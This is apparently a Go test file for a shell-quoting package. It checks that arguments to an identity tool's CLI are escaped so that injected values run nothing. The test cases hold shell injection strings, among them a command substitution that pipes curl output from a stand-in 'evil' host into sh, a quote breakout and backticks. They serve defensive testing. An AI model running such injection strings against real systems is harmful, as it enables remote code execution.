package shellquote_test

import (
	"strings"
	"testing"

	"github.com/ward-id/ward/internal/shellquote"
	"github.com/ward-id/ward/internal/shellquote/shellquotetest"
)

func TestQuote(t *testing.T) {
	cases := []struct{ name, in, want string }{
		{"empty", "", "''"},
		{"plain word", "checkout", "checkout"},
		{"flag", "--identity-name", "--identity-name"},
		{"url", "https://ward.example.com:8443/issuers/x/", "https://ward.example.com:8443/issuers/x/"},
		{"subject", "system:serviceaccount:shop:app", "system:serviceaccount:shop:app"},
		{"scope", "/subscriptions/1/resourceGroups/rg", "/subscriptions/1/resourceGroups/rg"},
		{"all safe punctuation", "a_b@c%d+e=f:g,h.i/j-k", "a_b@c%d+e=f:g,h.i/j-k"},
		{"space", "Key Vault Secrets User", "'Key Vault Secrets User'"},
		{"command substitution", "app$(curl -s evil|sh)", "'app$(curl -s evil|sh)'"},
		{"double quote breakout", `x"; curl evil; echo "`, `'x"; curl evil; echo "'`},
		{"single quote", "a'b", `'a'\''b'`},
		{"only a quote", "'", `''\'''`},
		{"backticks", "`id`", "'`id`'"},
		{"newline", "a\nb", "'a\nb'"},
		{"tilde", "~root", "'~root'"},
		{"glob", "*", "'*'"},
		{"parentheses in a group name", "rg(1)", "'rg(1)'"},
		{"non-ASCII", "grüße", "'grüße'"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if got := shellquote.Quote(tc.in); got != tc.want {
				t.Errorf("Quote(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

// TestJoinUnderShell runs joined commands with sh -c: every hostile value
// reaches the program as one argument, byte for byte, and nothing else runs.
func TestJoinUnderShell(t *testing.T) {
	for _, v := range append(shellquotetest.Hostile, "plain", "a'b'c''", strings.Repeat("'", 5), "\x01\x7f", "é$'x'") {
		args := []string{"ward", "identity", "federated-credential", "create", "--subject", v, v + v}
		shellquotetest.Args(t, shellquote.Join(args...), args, "ward")
	}
}

// TestRunCatchesInjection proves the harness fails a command that runs a
// value as shell syntax (so the tests built on it can fail).
func TestRunCatchesInjection(t *testing.T) {
	ft := &fakeT{TB: t}
	shellquotetest.Args(ft, "ward --subject app$(touch "+shellquotetest.Canary+")", []string{"ward", "--subject", "app$(touch pwned)"}, "ward")
	if !ft.failed {
		t.Error("an unquoted command substitution passed the harness")
	}
}

type fakeT struct {
	testing.TB
	failed bool
}

func (f *fakeT) Errorf(string, ...any) { f.failed = true }
func (f *fakeT) Helper()               {}
